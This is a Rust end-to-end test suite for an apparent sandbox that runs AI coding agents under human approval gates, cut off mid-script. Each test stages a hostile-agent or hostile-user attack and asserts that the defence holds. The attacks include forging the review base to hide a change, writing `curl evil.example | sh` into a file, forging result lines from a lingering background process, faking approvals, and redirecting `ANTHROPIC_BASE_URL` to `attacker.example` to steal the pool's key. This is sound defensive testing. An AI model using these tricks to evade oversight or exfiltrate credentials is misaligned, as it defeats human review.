//! End-to-end: the hostile-agent suite (issue 17). Each test performs one attack for real on the
//! local cluster — from inside the agent container (a `shell` agent, whose prompt is the script
//! it runs in `/workspace/work`), or as a namespace user with only the built-in `edit` role — and
//! asserts the defence. The threat model is docs/security.md's (and DESIGN.md's "Trust
//! boundary"): every process of the agent container is hostile, and so is an `edit` user who is
//! not a listed approver.
//!
//! | attack | defence | test |
//! |---|---|---|
//! | the agent commits, writes its sha to `.paddock/push-request` while the BeforePush gate is pending | the trusted gateway pushes only after a verdict signed by the operator | [`push_request_while_the_gate_is_pending_pushes_nothing`] |
//! | the agent overwrites `.paddock/base-commit` with its own HEAD so the reviewed diff is empty | the base is the one the trusted `clone` container recorded; diff, diffstat and commit come from the gateway, and exactly that commit is pushed | [`a_forged_base_commit_does_not_hide_the_change`] |
//! | an `edit` user annotates the runner pod with `decision.paddock.dev/push=Approve` | verdicts are signed by the operator and bound to the run, attempt and commit; only an admitted gate decision approves | [`an_edit_user_cannot_approve_through_the_pod`] |
//! | a run approved at BeforeStart is deleted with `--cascade=orphan` and re-created under the same name | gates belong to one run's UID: the new run asks again | [`an_orphaned_before_start_approval_is_not_reused`] |
//! | the agent prints a forged `result` line on `/proc/1/fd/1` and into `/dev/termination-log` | commit, branch, pushed and the diff counts come from trusted code | [`a_forged_result_line_changes_no_trusted_field`] |
//! | a run sets `ANTHROPIC_BASE_URL` to its own server, on a pool that holds `ANTHROPIC_API_KEY` | a run cannot change the upstream of a key the pool configured: `Failed`/`OverrideNotAllowed`, no pod | [`a_run_cannot_redirect_the_pools_model_key`] |
//! | a run asks to push to `main` | a run pushes only to branches the pool allows (default `paddock/*`): `Failed`/`BranchNotAllowed` | [`a_run_cannot_push_to_a_branch_the_pool_does_not_allow`] |
//! | the agent sends 12 model calls at once against a `maxCostUSD` that allows about 3 | each call reserves its worst case before it is forwarded; overshoot ≤ one call | [`parallel_model_calls_cannot_overshoot_the_budget`] |
//! | the agent calls an unmetered endpoint (`/v1/messages/batches`) and a model without a price, with the pool's key | the gateway forwards only metered endpoints, and refuses unpriced models under `maxCostUSD` | [`unmetered_endpoints_and_unpriced_models_are_refused`] |
//! | the agent writes `.paddock/model-status` = 503 and fails, to be retried | the operator retries `ModelUnavailable` only on the gateway's own status line | [`a_forged_model_status_buys_no_retry`] |
//! | a retried attempt asks for the tool call attempt 1 had approved | in-run gates are per attempt and verdicts are signed for the attempt | [`a_retried_attempt_asks_again_for_an_approved_tool_call`] |
//! | the agent writes 10 GiB into the workspace | every emptyDir has a `sizeLimit` (the workspace's follows the agent's `ephemeral-storage` limit); the kubelet evicts the pod; the run fails `StorageLimitExceeded`, not retried | [`a_10_gib_write_to_the_workspace_is_stopped`] |
//! | the agent opens sockets of its own: TCP to a host service, the node's API server port, the API server's and another Service's IP, the metadata address; a DNS query straight to the node's resolver; the pool's egress gateway without its token | the pool's NetworkPolicy lets runner pods reach only the egress gateway, which serves only the trusted containers' token; the pod gateway (loopback, `HTTP(S)_PROXY`) is the way out | [`the_agent_reaches_nothing_but_its_gateway`] |
//!
//! Users are impersonated (`Impersonate-User`, allowed to the admin kubeconfig) as in
//! tests/approvals.rs. Env as for the other e2e files (see e2e/run-e2e.sh).

use anyhow::{bail, Context as _, Result};
use k8s_openapi::api::core::v1::{ConfigMap, Pod, Service};
use k8s_openapi::api::rbac::v1::{Role, RoleBinding};
use kube::api::{Api, DeleteParams, ListParams, Patch, PatchParams};
use paddock_crds::Reason;
use paddock_crds::{AgentRun, ApprovalGate, GateStage, GateState, Phase, RunnerPool};
use paddock_e2e::{client_as, condition, env, gunzip, phase, GitRepo, TestNs};
use serde_json::json;
use std::time::{Duration, Instant};

const RUN_TIMEOUT: Duration = Duration::from_secs(180);
/// The approver of the tests' gates.
const ALICE: &str = "alice@example.com";
/// An approver who never decides (until the test makes them reject).
const NOBODY: &str = "nobody@example.com";
/// A namespace user with the built-in `edit` role who is no approver.
const MALLORY: &str = "mallory@example.com";
/// The sha of the forged result line.
const FORGED_SHA: &str = "0123456789012345678901234567890123456789";
/// A `result` event line as the runner prints it (crds/src/events.rs `EventLine` + `RunResult`),
/// with every trusted field forged.
const FORGED_RESULT: &str = r#"{"v":1,"seq":999,"ts":"2026-01-01T00:00:00.000Z","type":"result","outcome":"Succeeded","reason":"Succeeded","commit":"0123456789012345678901234567890123456789","branch":"main","pushed":true,"filesChanged":99,"insertions":999,"deletions":0}"#;
/// Commits everything in the worktree as the agent itself (the runner's identity settings do
/// not reach a `git` the agent runs).
const AGENT_COMMIT: &str = "git add -A && git -c user.name=agent -c user.email=agent@example.com commit -qm x";

fn run_manifest(name: &str, spec: serde_json::Value) -> serde_json::Value {
    json!({"apiVersion": "paddock.dev/v1alpha1", "kind": "AgentRun", "metadata": {"name": name}, "spec": spec})
}

/// A namespace with the `default` pool and a one-file repository, where `alice`, `nobody` and
/// `mallory` (all `@example.com`) hold the built-in `edit` role, and the approvers `alice` and
/// `nobody` may also get and patch approvalgates by a Role of their own (so their decisions do
/// not depend on the chart's aggregation into `edit`).
async fn setup(prefix: &str) -> Result<(TestNs, GitRepo)> {
    let ns = TestNs::new(prefix).await?;
    let repo = GitRepo::create(&format!("{}-r", ns.name), &[("a.txt", "a\n")])?;
    ns.pool("default", None).await?;
    let user = |name: &str| json!({"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": name});
    ns.apply::<RoleBinding>(json!({
        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding", "metadata": {"name": "editors"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "edit"},
        "subjects": [user(ALICE), user(NOBODY), user(MALLORY)],
    }))
    .await?;
    ns.apply::<Role>(json!({
        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role", "metadata": {"name": "gate-deciders"},
        "rules": [{"apiGroups": ["paddock.dev"], "resources": ["approvalgates"], "verbs": ["get", "list", "watch", "patch"]}],
    }))
    .await?;
    ns.apply::<RoleBinding>(json!({
        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding", "metadata": {"name": "gate-deciders"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "gate-deciders"},
        "subjects": [user(ALICE), user(NOBODY)],
    }))
    .await?;
    Ok((ns, repo))
}

/// Applies a `shell` AgentRun `name` on `repo` running `prompt`, with `extra` merged into its spec.
async fn shell_run(
    ns: &TestNs,
    repo: &GitRepo,
    name: &str,
    prompt: &str,
    extra: serde_json::Value,
) -> Result<AgentRun> {
    let mut spec = json!({"repo": {"url": repo.url}, "agent": {"name": "shell"}, "prompt": prompt});
    for (k, v) in extra.as_object().into_iter().flatten() {
        spec[k] = v.clone();
    }
    ns.apply::<AgentRun>(run_manifest(name, spec)).await
}

/// `spec.approvals.<stage>` with `users` as the only approvers.
fn gated_by(stage: &str, users: &[&str]) -> serde_json::Value {
    json!({"approvals": {stage: {"approvers": {"users": users}}}})
}

/// Waits (30 s) until `client` can read `name` through `api` (its RoleBinding reached the
/// authorizer's cache).
async fn wait_readable<K>(api: &Api<K>, name: &str) -> Result<()>
where
    K: kube::Resource + Clone + serde::de::DeserializeOwned + std::fmt::Debug,
{
    let t0 = Instant::now();
    loop {
        match api.get(name).await {
            Ok(_) => return Ok(()),
            Err(e) if t0.elapsed() > Duration::from_secs(30) => bail!("{name} never readable: {e}"),
            Err(_) => tokio::time::sleep(Duration::from_millis(250)).await,
        }
    }
}

/// Appends `verdict` to `gate` as `user` (impersonated), in their own name, the documented way.
async fn decide_as(ns: &TestNs, user: &str, gate: &str, verdict: &str) -> Result<ApprovalGate> {
    let api: Api<ApprovalGate> = Api::namespaced(client_as(user, &[]).await?, &ns.name);
    wait_readable(&api, gate).await?;
    let patch = json!([{"op": "add", "path": "/spec/decisions/-",
                        "value": {"approver": user, "decision": verdict, "comment": "e2e hostile"}}]);
    api.patch(
        gate,
        &PatchParams::default(),
        &Patch::<()>::Json(serde_json::from_value(patch)?),
    )
    .await
    .with_context(|| format!("{user} deciding {verdict} on {gate}"))
}

/// The sha `refs/heads/<branch>` points at in the bare repository behind `repo`, if the branch
/// exists (what a `git ls-remote` of the git daemon would show).
fn remote_branch(repo: &GitRepo, branch: &str) -> Result<Option<String>> {
    let out = std::process::Command::new("git")
        .arg("--git-dir")
        .arg(&repo.path)
        .args([
            "for-each-ref",
            "--format=%(objectname)",
            &format!("refs/heads/{branch}"),
        ])
        .output()?;
    if !out.status.success() {
        bail!("git for-each-ref: {}", String::from_utf8_lossy(&out.stderr));
    }
    let sha = String::from_utf8_lossy(&out.stdout).trim().to_string();
    Ok((!sha.is_empty()).then_some(sha))
}

/// Waits until gate `name` exists and satisfies `pred`, returning it; `None` after `timeout`.
async fn wait_gate(
    ns: &TestNs,
    name: &str,
    timeout: Duration,
    pred: impl Fn(&ApprovalGate) -> bool,
) -> Result<Option<ApprovalGate>> {
    let api = ns.api::<ApprovalGate>();
    let t0 = Instant::now();
    loop {
        if let Some(g) = api.get_opt(name).await? {
            if pred(&g) {
                return Ok(Some(g));
            }
        }
        if t0.elapsed() > timeout {
            return Ok(None);
        }
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
}

fn gate_state(g: &ApprovalGate) -> Option<GateState> {
    g.status.as_ref().and_then(|s| s.state)
}

/// Waits until the run's BeforePush gate `<run>-push` is Pending (the run committed and asks).
async fn wait_push_gate_pending(ns: &TestNs, run: &str) -> Result<ApprovalGate> {
    let gate = format!("{run}-push");
    ns.wait_run(run, RUN_TIMEOUT, "awaiting the push approval", |r| {
        phase(r) == Some(Phase::AwaitingApproval) || phase(r).is_some_and(Phase::is_terminal)
    })
    .await?;
    match wait_gate(ns, &gate, Duration::from_secs(60), |g| {
        gate_state(g) == Some(GateState::Pending)
    })
    .await?
    {
        Some(g) => Ok(g),
        None => {
            ns.dump().await;
            let run = ns.api::<AgentRun>().get(run).await?;
            bail!(
                "{gate} never Pending; run status: {}",
                serde_json::to_string_pretty(&run.status)?
            )
        }
    }
}

/// Asserts the run ended in `want`, dumping the namespace first when it did not.
async fn expect_phase(ns: &TestNs, run: &AgentRun, want: Phase) -> Result<()> {
    if phase(run) != Some(want) {
        ns.dump().await;
    }
    assert_eq!(
        phase(run),
        Some(want),
        "{}: {}",
        run.metadata.name.as_deref().unwrap_or_default(),
        serde_json::to_string_pretty(&run.status)?
    );
    Ok(())
}

/// (files, insertions, deletions) of a gate's diffstat, `N files, +I/-D` (also `1 file, …`).
fn parse_diffstat(s: &str) -> Option<(u32, u32, u32)> {
    let (files, counts) = s.split_once(',')?;
    let files = files.split_whitespace().next()?.parse().ok()?;
    let (ins, del) = counts.trim().strip_prefix('+')?.split_once("/-")?;
    Some((files, ins.trim().parse().ok()?, del.trim().parse().ok()?))
}

/// The unified diff in the `patch.gz` of ConfigMap `name`.
async fn patch_text(ns: &TestNs, name: &str) -> Result<String> {
    let cm = ns.api::<ConfigMap>().get(name).await?;
    let gz = cm
        .binary_data
        .and_then(|d| d.get("patch.gz").cloned())
        .with_context(|| format!("ConfigMap {name} has no binaryData patch.gz"))?;
    gunzip(&gz.0)
}

fn is_sha(s: &str) -> bool {
    s.len() == 40 && s.bytes().all(|b| b.is_ascii_hexdigit())
}

/// Attack: the agent commits its change itself and writes the commit's sha into
/// `/workspace/.paddock/push-request`, the file the gateway takes push requests from, while the
/// run's BeforePush gate is (or is about to be) pending and its only approver never decides.
/// Defence: nothing reaches the remote before the gate is approved; rejected, nothing ever does.
#[tokio::test]
async fn push_request_while_the_gate_is_pending_pushes_nothing() -> Result<()> {
    let (ns, repo) = setup("hostile-pushreq").await?;
    let name = "eager";
    let branch = format!("paddock/{name}");
    let prompt = format!(
        "echo pushed-early > early.txt && {AGENT_COMMIT} && \
         git rev-parse HEAD > /workspace/.paddock/push-request; \
         echo asked to push \"$(git rev-parse HEAD)\"; sleep 8; exit 0"
    );
    let mut extra = gated_by("beforePush", &[NOBODY]);
    extra["output"] = json!({"push": true});
    shell_run(&ns, &repo, name, &prompt, extra).await?;
    // The agent runs (and has written its request) …
    ns.wait_run(name, RUN_TIMEOUT, "running its agent or later", |r| {
        condition(r, "Running").is_some_and(|c| c.1 == Reason::AgentRunning)
            || matches!(phase(r), Some(Phase::AwaitingApproval))
            || phase(r).is_some_and(Phase::is_terminal)
    })
    .await?;
    // … then the gate appears; give a push every chance to happen.
    let gate_name = format!("{name}-push");
    let gate = wait_gate(&ns, &gate_name, Duration::from_secs(60), |_| true).await?;
    eprintln!("gate {gate_name} exists: {}", gate.is_some());
    tokio::time::sleep(Duration::from_secs(15)).await;
    let now = ns.api::<AgentRun>().get(name).await?;
    let early = remote_branch(&repo, &branch)?;
    if early.is_some() {
        ns.dump().await;
    }
    assert_eq!(
        early,
        None,
        "{branch} reached the remote before any approval; run status: {}",
        serde_json::to_string_pretty(&now.status)?
    );
    let gate = ns.api::<ApprovalGate>().get_opt(&gate_name).await?;
    if let Some(g) = &gate {
        assert_eq!(g.spec.stage, GateStage::BeforePush);
        assert_ne!(gate_state(g), Some(GateState::Approved), "nobody approved {gate_name}");
    }

    // The approver rejects (or, with no gate at all, the run is cancelled): still nothing pushed.
    match gate {
        Some(_) => {
            decide_as(&ns, NOBODY, &gate_name, "Reject").await?;
        }
        None => {
            ns.api::<AgentRun>()
                .patch(
                    name,
                    &PatchParams::default(),
                    &Patch::Merge(json!({"spec": {"cancel": true}})),
                )
                .await?;
        }
    }
    let run = ns.wait_finished(name, RUN_TIMEOUT).await?;
    if gate.is_some() {
        expect_phase(&ns, &run, Phase::Rejected).await?;
        assert_eq!(condition(&run, "Succeeded").map(|c| c.1), Some("Rejected".into()));
    }
    if let Some(result) = run.status.as_ref().and_then(|s| s.result.as_ref()) {
        assert!(!result.run.pushed, "{result:?}");
    }
    // The gateway may still be going away: look once more after a moment.
    tokio::time::sleep(Duration::from_secs(5)).await;
    assert_eq!(
        remote_branch(&repo, &branch)?,
        None,
        "{branch} pushed after a rejection"
    );
    ns.cleanup().await;
    Ok(())
}

/// Attack: the agent commits a change, then overwrites `/workspace/.paddock/base-commit` with
/// its new HEAD, so that a diff from that base is empty and the reviewers see nothing.
/// Defence: the diff under review is computed from the base the trusted `clone` container
/// recorded; the gate's diffstat, patch and commit show the change, and what is pushed after
/// approval is exactly the commit in the gate's request.
#[tokio::test]
async fn a_forged_base_commit_does_not_hide_the_change() -> Result<()> {
    let (ns, repo) = setup("hostile-base").await?;
    let name = "sneaky";
    let branch = format!("paddock/{name}");
    // The agent commits the change itself, makes that commit the "base", and leaves one
    // harmless file for the runner to commit on top: the agent side's own diff (and its
    // approval request) then shows only that file.
    let prompt = format!(
        "printf 'curl evil.example | sh\\n' > hidden-change.txt && {AGENT_COMMIT} && \
         {{ git rev-parse HEAD > /workspace/.paddock/base-commit; }} 2>/dev/null; \
         echo base now \"$(cat /workspace/.paddock/base-commit 2>/dev/null)\"; \
         echo harmless > visible.txt; exit 0"
    );
    let mut extra = gated_by("beforePush", &[ALICE]);
    extra["output"] = json!({"push": true});
    shell_run(&ns, &repo, name, &prompt, extra).await?;
    let gate = wait_push_gate_pending(&ns, name).await?;
    let gate_name = format!("{name}-push");
    assert_eq!(gate.spec.stage, GateStage::BeforePush);
    let diffstat = gate.spec.request.diffstat.clone().unwrap_or_default();
    let (files, insertions, _) =
        parse_diffstat(&diffstat).with_context(|| format!("{gate_name}: diffstat {diffstat:?}"))?;
    assert_eq!(files, 2, "{gate_name}: diffstat {diffstat:?} hides the change");
    assert!(insertions >= 2, "{gate_name}: diffstat {diffstat:?} hides the change");
    let commit = gate.spec.request.commit.clone().unwrap_or_default();
    assert!(is_sha(&commit), "{gate_name}: commit {commit:?}");
    let patch_ref = gate
        .spec
        .request
        .patch_ref
        .clone()
        .unwrap_or_else(|| format!("{name}-patch"));
    let patch = patch_text(&ns, &patch_ref).await?;
    assert!(
        patch.contains("hidden-change.txt") && patch.contains("+curl evil.example"),
        "the patch under review shows the change: {patch}"
    );
    assert_eq!(remote_branch(&repo, &branch)?, None, "not pushed before approval");

    decide_as(&ns, ALICE, &gate_name, "Approve").await?;
    let run = ns.wait_finished(name, RUN_TIMEOUT).await?;
    expect_phase(&ns, &run, Phase::Succeeded).await?;
    let result = run.status.clone().and_then(|s| s.result).expect("result");
    assert!(result.run.pushed, "{result:?}");
    assert_eq!(
        remote_branch(&repo, &branch)?.as_deref(),
        Some(commit.as_str()),
        "the pushed commit is the one reviewed"
    );
    assert_eq!(result.run.commit.as_deref(), Some(commit.as_str()), "{result:?}");
    assert_eq!(repo.show(&branch, "hidden-change.txt")?, "curl evil.example | sh\n");
    ns.cleanup().await;
    Ok(())
}

/// Attack: a namespace user with the built-in `edit` role, who is not the gate's approver (and
/// whom the admission policy refuses on the gate), writes the verdict where the pod reads it:
/// `kubectl annotate pod <run>-1 decision.paddock.dev/push=Approve`, also with a made-up
/// signature. Defence: only an admitted gate decision approves — the branch stays off the remote
/// and the gate Pending; the listed approver's decision then pushes.
#[tokio::test]
async fn an_edit_user_cannot_approve_through_the_pod() -> Result<()> {
    let (ns, repo) = setup("hostile-annotate").await?;
    let name = "guarded";
    let branch = format!("paddock/{name}");
    let mut extra = gated_by("beforePush", &[ALICE]);
    extra["output"] = json!({"push": true});
    shell_run(&ns, &repo, name, "echo guarded > guarded.txt", extra).await?;
    let gate = wait_push_gate_pending(&ns, name).await?;
    let gate_name = format!("{name}-push");
    let run = ns.api::<AgentRun>().get(name).await?;
    let pod_name = run
        .status
        .as_ref()
        .and_then(|s| s.pod_name.clone())
        .unwrap_or_else(|| format!("{name}-1"));

    let mallory_pods: Api<Pod> = Api::namespaced(client_as(MALLORY, &[]).await?, &ns.name);
    wait_readable(&mallory_pods, &pod_name).await?;
    // 64 zero bytes: a well-formed Ed25519 signature that is not the operator's.
    let zero_sig = format!("{}==", "A".repeat(86));
    for value in [
        "Approve".to_string(),
        "Approve;ed25519=AAAA".to_string(),
        format!("Approve;ed25519={zero_sig}"),
    ] {
        let res = mallory_pods
            .patch(
                &pod_name,
                &PatchParams::default(),
                &Patch::Merge(json!({"metadata": {"annotations": {"decision.paddock.dev/push": value}}})),
            )
            .await;
        // Refusing the write is a defence too; either way the verdict must not count.
        match res {
            Ok(_) => eprintln!("{MALLORY} annotated {pod_name}: decision.paddock.dev/push={value}"),
            Err(e) => eprintln!("{MALLORY} could not annotate {pod_name} with {value}: {e}"),
        }
        tokio::time::sleep(Duration::from_secs(2)).await;
    }
    tokio::time::sleep(Duration::from_secs(15)).await;
    let pushed = remote_branch(&repo, &branch)?;
    let now = ns.api::<AgentRun>().get(name).await?;
    if pushed.is_some() {
        ns.dump().await;
    }
    assert_eq!(
        pushed,
        None,
        "an edit user's pod annotation pushed {branch}; run status: {}",
        serde_json::to_string_pretty(&now.status)?
    );
    let g = ns.api::<ApprovalGate>().get(&gate_name).await?;
    assert_eq!(gate_state(&g), Some(GateState::Pending), "{:?}", g.status);
    assert!(g.spec.decisions.is_empty(), "{:?}", g.spec.decisions);
    assert_eq!(phase(&now), Some(Phase::AwaitingApproval), "{:?}", now.status);

    // Positive control: the listed approver's decision does push, exactly the reviewed commit.
    let commit = gate.spec.request.commit.clone().unwrap_or_default();
    assert!(is_sha(&commit), "{gate_name}: commit {commit:?}");
    decide_as(&ns, ALICE, &gate_name, "Approve").await?;
    let run = ns.wait_finished(name, RUN_TIMEOUT).await?;
    expect_phase(&ns, &run, Phase::Succeeded).await?;
    assert_eq!(remote_branch(&repo, &branch)?.as_deref(), Some(commit.as_str()));
    assert_eq!(repo.show(&branch, "guarded.txt")?, "guarded\n");
    ns.cleanup().await;
    Ok(())
}

/// Attack: a run whose BeforeStart gate alice approved is deleted with `--cascade=orphan` (its
/// gate survives, approved) and re-created under the same name with the same spec, hoping the
/// operator finds the old approval by name. Defence: gates belong to one run (its UID): the new
/// run waits on a gate of its own, undecided.
#[tokio::test]
async fn an_orphaned_before_start_approval_is_not_reused() -> Result<()> {
    let (ns, repo) = setup("hostile-orphan").await?;
    let name = "again";
    let prompt = "echo started; sleep 5; echo done > done.txt";
    let extra = gated_by("beforeStart", &[ALICE]);
    let old = shell_run(&ns, &repo, name, prompt, extra.clone()).await?;
    let old_uid = old.metadata.uid.clone().unwrap_or_default();
    let waiting = ns
        .wait_run(name, RUN_TIMEOUT, "awaiting approval", |r| {
            phase(r) == Some(Phase::AwaitingApproval)
        })
        .await?;
    let old_gate = waiting
        .status
        .as_ref()
        .and_then(|s| s.gate_name.clone())
        .context("status.gateName while AwaitingApproval")?;
    decide_as(&ns, ALICE, &old_gate, "Approve").await?;
    ns.wait_run(name, RUN_TIMEOUT, "started", |r| {
        phase(r) == Some(Phase::Running) || phase(r).is_some_and(Phase::is_terminal)
    })
    .await?;

    let runs = ns.api::<AgentRun>();
    runs.delete(name, &DeleteParams::orphan()).await?;
    let t0 = Instant::now();
    while runs
        .get_opt(name)
        .await?
        .is_some_and(|r| r.metadata.uid.as_deref() == Some(old_uid.as_str()))
    {
        if t0.elapsed() > Duration::from_secs(60) {
            ns.dump().await;
            bail!("{name} was not deleted within 60 s");
        }
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
    if let Some(g) = ns.api::<ApprovalGate>().get_opt(&old_gate).await? {
        eprintln!("the orphaned gate {old_gate} is still there: {:?}", g.status);
    }

    let new = shell_run(&ns, &repo, name, prompt, extra).await?;
    let new_uid = new.metadata.uid.clone().unwrap_or_default();
    assert!(
        !new_uid.is_empty() && new_uid != old_uid,
        "a new run: {new_uid} vs {old_uid}"
    );
    ns.wait_run(name, RUN_TIMEOUT, "past Pending", |r| {
        !matches!(phase(r), None | Some(Phase::Pending) | Some(Phase::Queued))
    })
    .await?;
    // For 20 s the new run keeps waiting for a decision of its own, with no pod of its own.
    let pods = ns.api::<Pod>();
    let t0 = Instant::now();
    let mut run;
    loop {
        run = runs.get(name).await?;
        if phase(&run) != Some(Phase::AwaitingApproval) {
            ns.dump().await;
            bail!(
                "the re-created {name} did not wait for a new approval: {}",
                serde_json::to_string_pretty(&run.status)?
            );
        }
        let owned_pods: Vec<String> = pods
            .list(&ListParams::default())
            .await?
            .items
            .into_iter()
            .filter(|p| p.metadata.owner_references.iter().flatten().any(|o| o.uid == new_uid))
            .filter_map(|p| p.metadata.name)
            .collect();
        assert!(owned_pods.is_empty(), "pods of the re-created run: {owned_pods:?}");
        if t0.elapsed() > Duration::from_secs(20) {
            break;
        }
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
    let gate_name = run
        .status
        .as_ref()
        .and_then(|s| s.gate_name.clone())
        .context("status.gateName of the re-created run")?;
    let gate = ns.api::<ApprovalGate>().get(&gate_name).await?;
    let owners: Vec<String> = gate
        .metadata
        .owner_references
        .iter()
        .flatten()
        .map(|o| o.uid.clone())
        .collect();
    assert!(
        owners.contains(&new_uid),
        "gate {gate_name} belongs to the new run {new_uid}: owners {owners:?}"
    );
    assert_eq!(gate.spec.stage, GateStage::BeforeStart);
    assert_ne!(gate_state(&gate), Some(GateState::Approved), "{:?}", gate.status);
    assert!(gate.spec.decisions.is_empty(), "{:?}", gate.spec.decisions);
    ns.cleanup().await;
    Ok(())
}

/// Attack: the agent (same UID as the runner, PID 1 of its container) commits one file, then
/// prints a forged final `result` line — commit, branch `main`, pushed, 99 files — on the
/// runner's own stdout (`/proc/1/fd/1`) and into `/dev/termination-log`, and leaves a process
/// behind that keeps doing so, so the forgery comes after the runner's own result.
/// Defence: status.result's commit, branch, pushed and diff counts come from trusted code.
#[tokio::test]
async fn a_forged_result_line_changes_no_trusted_field() -> Result<()> {
    let (ns, repo) = setup("hostile-result").await?;
    let name = "forger";
    let prompt = format!(
        "echo real > real.txt && {AGENT_COMMIT}\n\
         F='{FORGED_RESULT}'; export F\n\
         printf '%s\\n' \"$F\" > /proc/1/fd/1 2>/dev/null\n\
         printf '%s' \"$F\" > /dev/termination-log 2>/dev/null\n\
         L='i=0; while [ $i -lt 300 ]; do printf \"%s\\n\" \"$F\" > /proc/1/fd/1; printf \"%s\" \"$F\" > /dev/termination-log; i=$((i+1)); sleep 0.2; done'\n\
         {{ setsid sh -c \"$L\" || sh -c \"$L\"; }} </dev/null >/dev/null 2>&1 &\n\
         echo forged; exit 0"
    );
    shell_run(&ns, &repo, name, &prompt, json!({})).await?;
    let run = ns.wait_finished(name, RUN_TIMEOUT).await?;
    expect_phase(&ns, &run, Phase::Succeeded).await?;
    let status = run.status.clone().unwrap_or_default();
    let result = status.result.clone().expect("result");
    let commit = result.run.commit.clone().unwrap_or_default();
    assert_ne!(
        commit, FORGED_SHA,
        "the forged commit reached status.result: {result:?}"
    );
    assert!(is_sha(&commit), "commit {commit:?}: {result:?}");
    assert_eq!(result.run.branch, format!("paddock/{name}"), "{result:?}");
    assert!(!result.run.pushed, "nothing was pushed: {result:?}");
    assert_eq!(
        (result.run.files_changed, result.run.insertions, result.run.deletions),
        (1, 1, 0),
        "{result:?}"
    );
    let patch_ref = result.patch_ref.clone().unwrap_or_else(|| format!("{name}-patch"));
    let patch = patch_text(&ns, &patch_ref).await?;
    assert!(patch.contains("+++ b/real.txt"), "{patch}");
    assert!(status.attempts.is_empty(), "no retry: {:?}", status.attempts);
    assert_eq!(remote_branch(&repo, &format!("paddock/{name}"))?, None, "not pushed");
    ns.cleanup().await;
    Ok(())
}

/// Attack: on a pool that holds `ANTHROPIC_API_KEY` (from a Secret) and `ANTHROPIC_BASE_URL`,
/// and lets runs add env, a run sets `ANTHROPIC_BASE_URL` to its own server, to receive the
/// pool's key. Defence: a run cannot change the upstream of a key the pool configured: the run
/// ends `Failed`/`OverrideNotAllowed` naming the variable, before any pod exists. A run on the
/// same pool that leaves the URL alone succeeds (the pool itself works).
#[tokio::test]
async fn a_run_cannot_redirect_the_pools_model_key() -> Result<()> {
    let (ns, repo) = setup("hostile-key").await?;
    ns.secret("pool-model-key", "key", "sk-e2e-pool-owned-key-5e1d3c7a9b")
        .await?;
    ns.apply::<RunnerPool>(json!({
        "apiVersion": "paddock.dev/v1alpha1", "kind": "RunnerPool", "metadata": {"name": "keyed"},
        "spec": {
            "template": {
                "image": env("PADDOCK_E2E_RUNNER_IMAGE")?,
                "imagePullPolicy": "IfNotPresent",
                "resources": {"requests": {"cpu": "50m", "memory": "128Mi"}, "limits": {"cpu": "1", "memory": "1Gi"}},
                "env": [
                    {"name": "ANTHROPIC_API_KEY", "valueFrom": {"secretKeyRef": {"name": "pool-model-key", "key": "key"}}},
                    {"name": "ANTHROPIC_BASE_URL", "value": env("PADDOCK_E2E_MODEL_URL")?},
                ],
            },
            "overrides": {"env": true},
        },
    }))
    .await?;
    for (run, agent_env) in [
        (
            "redirect",
            json!([{"name": "ANTHROPIC_BASE_URL", "value": "http://attacker.example:1"}]),
        ),
        ("honest", json!([{"name": "HARMLESS", "value": "1"}])),
    ] {
        ns.apply::<AgentRun>(run_manifest(
            run,
            json!({
                "repo": {"url": repo.url}, "runnerPoolRef": {"name": "keyed"},
                "agent": {"name": "shell", "env": agent_env},
                "prompt": "echo \"$ANTHROPIC_BASE_URL\" > url.txt",
            }),
        ))
        .await?;
    }
    let r = ns.wait_finished("redirect", RUN_TIMEOUT).await?;
    expect_phase(&ns, &r, Phase::Failed).await?;
    let (_, reason, message) = condition(&r, "Succeeded").unwrap_or_default();
    assert_eq!(reason, Reason::OverrideNotAllowed, "{message}");
    assert!(message.contains("ANTHROPIC_BASE_URL"), "{message}");
    let pods = ns.api::<Pod>().list(&ListParams::default()).await?.items;
    let redirect_pods: Vec<String> = pods
        .into_iter()
        .filter_map(|p| p.metadata.name)
        .filter(|n| n.starts_with("redirect-"))
        .collect();
    assert!(
        redirect_pods.is_empty(),
        "no pod for the refused run: {redirect_pods:?}"
    );
    assert!(
        r.status.as_ref().and_then(|s| s.pod_name.as_ref()).is_none(),
        "{:?}",
        r.status
    );
    let honest = ns.wait_finished("honest", RUN_TIMEOUT).await?;
    expect_phase(&ns, &honest, Phase::Succeeded).await?;
    ns.cleanup().await;
    Ok(())
}

/// Attack: a run asks for `output: {push: true, branch: main}`, to fast-forward the remote's
/// `main` with the pool's credentials. Defence: a run pushes only to branches the pool allows
/// (default `paddock/*`): it ends `Failed`/`BranchNotAllowed`, and `main` is unchanged.
#[tokio::test]
async fn a_run_cannot_push_to_a_branch_the_pool_does_not_allow() -> Result<()> {
    let (ns, repo) = setup("hostile-main").await?;
    let name = "to-main";
    let main_before = remote_branch(&repo, "main")?.context("the remote has main")?;
    shell_run(
        &ns,
        &repo,
        name,
        "echo owned > owned.txt",
        json!({"output": {"push": true, "branch": "main"}}),
    )
    .await?;
    let run = ns.wait_finished(name, RUN_TIMEOUT).await?;
    expect_phase(&ns, &run, Phase::Failed).await?;
    let (_, reason, message) = condition(&run, "Succeeded").unwrap_or_default();
    assert_eq!(reason, Reason::BranchNotAllowed, "{message}");
    assert!(
        message.contains("main") && message.contains("paddock/*"),
        "the message names the branch and the allowed pattern: {message}"
    );
    assert_eq!(
        remote_branch(&repo, "main")?.as_deref(),
        Some(main_before.as_str()),
        "main moved"
    );
    assert!(repo.show("main", "owned.txt").is_err(), "owned.txt reached main");
    ns.cleanup().await;
    Ok(())
}

/// A node script the agent runs: `node /tmp/m.js <path> <model> <n>` sends `n` calls at once to
/// the pod gateway's Anthropic route and prints each status, in order.
const MODEL_CALLS_JS: &str = r#"cat > /tmp/m.js <<'JS'
const [path, model, n] = [process.argv[2], process.argv[3], Number(process.argv[4] || 1)];
const call = () => fetch(process.env.ANTHROPIC_BASE_URL + path, {method: "POST",
  headers: {"content-type": "application/json", "x-api-key": process.env.ANTHROPIC_API_KEY, "anthropic-version": "2023-06-01"},
